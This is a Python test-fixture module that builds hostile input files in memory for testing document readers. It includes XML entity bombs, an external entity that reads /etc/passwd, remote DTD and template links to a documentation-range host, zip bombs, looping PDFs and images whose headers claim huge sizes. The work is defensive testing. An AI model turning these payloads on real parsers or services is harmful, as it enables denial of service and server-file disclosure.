"""Files that lie about their size or mean harm, made in memory; each is small and would cost much if it were believed."""

import io
import struct
import zipfile
import zlib

import docx
import openpyxl
import xlwt
from PIL import Image

from tests.readers.made_book import biff12, xlsb
from tests.readers.made_office import deck
from tests.readers.test_odf import odf

ENTITIES = (
    '<!DOCTYPE a [<!ENTITY x "entity">'
    + "".join(f'<!ENTITY x{n} "' + 10 * f"&x{n - 1 or ''};" + '">' for n in range(1, 12))
    + '<!ENTITY outside SYSTEM "file:///etc/passwd"><!ENTITY % far SYSTEM "http://198.51.100.1/x.dtd">]>'
)
USES = "&x11;&outside;"


def with_member(data: bytes, name: str, old: bytes, new: bytes) -> bytes:
    """Return a zip package in one member of which `old` is replaced by `new`, once."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as copy:
        for entry in source.infolist():
            content = source.read(entry)
            if entry.filename == name:
                assert old in content
                content = content.replace(old, new, 1)
            copy.writestr(entry.filename, content)
    return made.getvalue()


def word(text: str = "Seals are kept in the office.") -> bytes:
    paper = docx.Document()
    paper.add_paragraph(text)
    buffer = io.BytesIO()
    paper.save(buffer)
    return buffer.getvalue()


def book(cells: dict[str, str] | None = None) -> bytes:
    made = openpyxl.Workbook()
    sheet = made.active
    assert sheet is not None
    for address, value in (cells or {"A1": "Seal no.", "B1": "Date", "A2": "QX1", "B2": "1 May 2026"}).items():
        sheet[address] = value
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def book_torn_before_a_far_cell() -> bytes:
    """A sheet whose XML is torn near its top, with a cell far beyond the last row behind that."""
    data = with_member(book(), "xl/worksheets/sheet1.xml", b'r="B2"', b'r="B99999999999"')
    return with_member(data, "xl/worksheets/sheet1.xml", b"<sheetViews>", b"=sheetViews>")


def old_book() -> bytes:
    made = xlwt.Workbook()
    sheet = made.add_sheet("Seals")
    for number, values in enumerate((("Seal no.", "Date"), ("QX1", "1 May 2026"))):
        for place, text in enumerate(values):
            sheet.write(number, place, text)
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def old_book_in_a_circle() -> bytes:
    """A workbook whose list of streams goes on in the sector in which it began."""
    data = bytearray(old_book())
    sector = struct.unpack_from("<I", data, 48)[0]
    table = 512 * (struct.unpack_from("<I", data, 76)[0] + 1)
    struct.pack_into("<I", data, table + 4 * sector, sector)
    return bytes(data)


def old_book_with(head_of_record: bytes, body: bytes) -> bytes:
    """A workbook in which other bytes stand first in the first record that begins so."""
    data = bytearray(old_book())
    head = data.index(head_of_record)
    data[head + 4 : head + 4 + len(body)] = body
    return bytes(data)


def binary_book_with_a_short_row() -> bytes:
    """A sheet in which a row's record has no number, so that the bytes of the record before would be taken for it."""
    before = biff12(5, struct.pack("<IId", 2**19, 0, 7.0))
    return with_member(xlsb(), "xl/worksheets/sheet1.bin", biff12(146), before + biff12(0) + before + biff12(146))


def binary_book_with_texts(count: int) -> bytes:
    """A workbook that claims so many shared texts and has none."""
    made = io.BytesIO(xlsb())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("xl/sharedStrings.bin", biff12(159, struct.pack("<II", count, count)) + biff12(160))
    return made.getvalue()


def deck_with_entities() -> bytes:
    data = with_member(deck(), "ppt/slides/slide1.xml", b"<a:t>", f"<a:t>Kept. {USES}".encode())
    return with_member(data, "ppt/slides/slide1.xml", b"<p:sld ", ENTITIES.encode() + b"<p:sld ")


def package_with_far_parts() -> bytes:
    """A Word file whose parts, by their links, lie elsewhere: a template, a picture, the document's own text."""
    far = 'TargetMode="External" Target="http://198.51.100.1/x.dotm"'
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(
        f'<Relationship Id="far{n}" Type="{kind}/{what}" {far}/>'
        for n, what in enumerate(("attachedTemplate", "image", "header", "frame"))
    )
    return with_member(word(), "word/_rels/document.xml.rels", b"</Relationships>", f"{links}</Relationships>".encode())


def overlapping(count: int, size: int) -> bytes:
    """A zip many of whose names stand for the same bytes: it unpacks to far more than it holds."""
    kernel = io.BytesIO()
    with zipfile.ZipFile(kernel, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0.txt", bytes(size))
        first = archive.infolist()[0]
        for number in range(1, count):
            entry = zipfile.ZipInfo(f"{number}.txt")
            entry.compress_type, entry.CRC, entry.flag_bits = first.compress_type, first.CRC, first.flag_bits
            entry.compress_size, entry.file_size, entry.header_offset = first.compress_size, first.file_size, 0
            archive.filelist.append(entry)
            archive.NameToInfo[entry.filename] = entry
    return kernel.getvalue()


def odt() -> bytes:
    return odf("text", "<text:p>Seals are kept in the office.</text:p>")


def word_with_entities() -> bytes:
    data = with_member(word("QQQ"), "word/document.xml", b"QQQ", f"Kept. {USES}".encode())
    return with_member(data, "word/document.xml", b"<w:document", ENTITIES.encode() + b"<w:document")


def book_with_entities() -> bytes:
    data = book({"A1": "Seal no.", "A2": "QQQ"})
    data = with_member(data, "xl/sharedStrings.xml", b"QQQ", f"Kept. {USES}".encode())
    return with_member(data, "xl/sharedStrings.xml", b"<sst", ENTITIES.encode() + b"<sst")


def odt_with_entities() -> bytes:
    data = with_member(odt(), "content.xml", b"office.", f"office. {USES}".encode())
    return with_member(
        data, "content.xml", b"<office:document-content", ENTITIES.encode() + b"<office:document-content"
    )


def page_with_entities() -> bytes:
    return f"{ENTITIES}<html><body><p>Kept. {USES}</p></body></html>".encode()


def records_with_entities() -> bytes:
    return f"<?xml version='1.0'?>{ENTITIES}<a><b>Kept. {USES}</b><b>Kept.</b></a>".encode()


def pdf_of(*objects: str | bytes, root: int = 1) -> bytes:
    """Return a PDF of these objects, numbered from 1, the first one its catalogue."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj\n".encode() + (content if isinstance(content, bytes) else content.encode())
        made += b"\nendobj\n"
    start = len(made)
    made += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    made += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    made += f"trailer\n<</Root {root} 0 R/Size {len(objects) + 1}>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(made)


_FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_WORDS = "BT /F1 12 Tf 72 720 Td (Seals are kept in the office.) Tj ET"
_CATALOGUE = "<</Type/Catalog/Pages 2 0 R>>"


def _page(extra: str = "/Contents 5 0 R") -> str:
    return f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 4 0 R>>>>{extra}>>"


def stream(data: bytes, more: str = "") -> bytes:
    return f"<</Length {len(data)}{more}>>stream\n".encode() + data + b"\nendstream"


def pdf_claiming(pages: int) -> bytes:
    """One page and a tree that claims many."""
    tree = f"<</Type/Pages/Count {pages}/Kids[3 0 R]>>"
    return pdf_of(_CATALOGUE, tree, _page(), _FONT, stream(_WORDS.encode()))


def pdf_repeating(pages: int) -> bytes:
    """One page that stands in the tree many times."""
    tree = f"<</Type/Pages/Count {pages}/Kids[{'3 0 R ' * pages}]>>"
    return pdf_of(_CATALOGUE, tree, _page(), _FONT, stream(_WORDS.encode()))


def pdf_with_loop() -> bytes:
    """A tree of pages in which a branch holds its own trunk."""
    tree = "<</Type/Pages/Count 100000/Kids[3 0 R 6 0 R]>>"
    return pdf_of(
        _CATALOGUE,
        tree,
        _page(),
        _FONT,
        stream(_WORDS.encode()),
        "<</Type/Pages/Parent 2 0 R/Count 99999/Kids[2 0 R]>>",
    )


def pdf_with_endless_form() -> bytes:
    """A drawing that draws itself."""
    page = _page("/Contents 5 0 R").replace("/Resources<<", "/Resources<</XObject<</X 6 0 R>>")
    form = stream(b"/X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    return pdf_of(
        _CATALOGUE, "<</Type/Pages/Count 1/Kids[3 0 R]>>", page, _FONT, stream(f"{_WORDS} /X Do".encode()), form
    )


def pdf_with_circles() -> bytes:
    """A file in which everything that may lead on leads back: tables, outlines, fields, names, lengths, parents."""
    catalogue = (
        "<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R/AcroForm<</Fields[7 0 R]>>/Names<</Dests 8 0 R>>/PageLabels 8 0 R"
        "/StructTreeRoot 9 0 R>>"
    )
    data = pdf_of(
        catalogue,
        "<</Type/Pages/Parent 2 0 R/Count 1/Kids[3 0 R]>>",
        _page("/Contents 5 0 R/Annots[7 0 R 7 0 R]"),
        _FONT,
        stream(_WORDS.encode()).replace(b"/Length ", b"/Length 10 0 R/Was "),
        "<</Type/Outlines/First 6 0 R/Last 6 0 R/Next 6 0 R/Prev 6 0 R/Count 99999>>",
        "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V 7 0 R/Parent 7 0 R/Kids[7 0 R]/Rect[9 9 99 99]/P 3 0 R>>",
        "<</Kids[8 0 R 8 0 R]/Limits[(a)(z)]>>",
        "<</Type/StructTreeRoot/K 9 0 R/ParentTree 8 0 R/RoleMap<</A/B/B/A>>>>",
        "10 0 R",
    )
    table = data.rindex(b"xref", 0, data.rindex(b"startxref"))
    return data.replace(b"trailer\n<<", f"trailer\n<</Prev {table}".encode())


def pdf_with_packed_stream(size: int) -> bytes:
    """A page whose content is a few words and then spaces without end."""
    packed = zlib.compress(_WORDS.encode() + b" " * size, 9)
    return pdf_of(
        _CATALOGUE,
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        _page(),
        _FONT,
        stream(packed, "/Filter/FlateDecode"),
    )


def pdf_with_huge_picture(side: int) -> bytes:
    """A page that is one picture of so many pixels each way, packed to a few bytes."""
    page = _page("/Contents 5 0 R").replace("/Resources<<", "/Resources<</XObject<</X 6 0 R>>")
    what = f"/Type/XObject/Subtype/Image/Width {side}/Height {side}/ColorSpace/DeviceGray/BitsPerComponent 1"
    rows = zlib.compressobj(9)
    packed = b"".join(rows.compress(bytes(side // 8)) for _ in range(side)) + rows.flush()
    return pdf_of(
        _CATALOGUE,
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        page,
        _FONT,
        stream(b"q 595 0 0 842 0 0 cm /X Do Q"),
        stream(packed, f"{what}/Filter/FlateDecode"),
    )


def pdf_with_huge_page() -> bytes:
    """A page of a kilometre each way."""
    page = _page().replace("[0 0 595 842]", "[0 0 2834645 2834645]")
    return pdf_of(_CATALOGUE, "<</Type/Pages/Count 1/Kids[3 0 R]>>", page, _FONT, stream(b"0 0 9 9 re f"))


def png(width: int, height: int, rows: int = 1) -> bytes:
    """A picture that claims a size and holds only so many rows."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = zlib.compress(bytes((1 + (width + 7) // 8) * rows), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def tiff(width: int, height: int) -> bytes:
    """A TIFF of one line that claims a size; its only strip is empty."""
    entries = (
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (278, 4, 1, height),
        (279, 4, 1, 0),
    )
    directory = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\x00" + struct.pack("<I", 8) + directory + bytes(4)


def bmp(width: int, height: int) -> bytes:
    """A bitmap of nothing but its header."""
    return (
        b"BM"
        + struct.pack("<IHHI", 54, 0, 0, 54)
        + struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)
    )


def gif(width: int, height: int) -> bytes:
    """A GIF of one pixel whose screen and frame claim a size."""
    size = struct.pack("<HH", width, height)
    return b"GIF89a" + size + b"\x80\0\0\0\0\0\xff\xff\xff\x2c\0\0\0\0" + size + b"\0\x02\x02\x44\x01\0;"


def jpeg(width: int, height: int) -> bytes:
    """A JPEG of eight by eight pixels whose head claims a size."""
    raw = io.BytesIO()
    Image.new("L", (8, 8)).save(raw, "JPEG")
    data = raw.getvalue()
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


def nested_mail(depth: int) -> bytes:
    """A mail that holds a mail that holds a mail, so many deep, with a few words at the bottom."""
    layers = [f"From: a@b.example\nSubject: Layer {n}\nContent-Type: message/rfc822\n\n" for n in range(depth)]
    return ("".join(layers) + "From: a@b.example\nSubject: The innermost\n\nSeals are kept in the office.\n").encode()


def mail_of_deep_parts(depth: int) -> bytes:
    """A mail of multiparts within multiparts."""
    head = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(depth))
    tail = "".join(f"\n--b{n}--\n" for n in reversed(range(depth)))
    return (
        f"From: a@b.example\nSubject: deep\nMIME-Version: 1.0\n{head}Content-Type: text/plain\n\nKept.{tail}".encode()
    )


def quine_like(layers: int, width: int = 10) -> bytes:
    """Archives within archives, each holding many of the one below, with a megabyte of nothing at the bottom."""
    data, name = bytes(2**20), "0.bin"
    for level in range(layers):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(width):
                archive.writestr(zipfile.ZipInfo(f"{number}-{name}"), data, zipfile.ZIP_DEFLATED)
        data, name = buffer.getvalue(), f"{level}.zip"
    return data
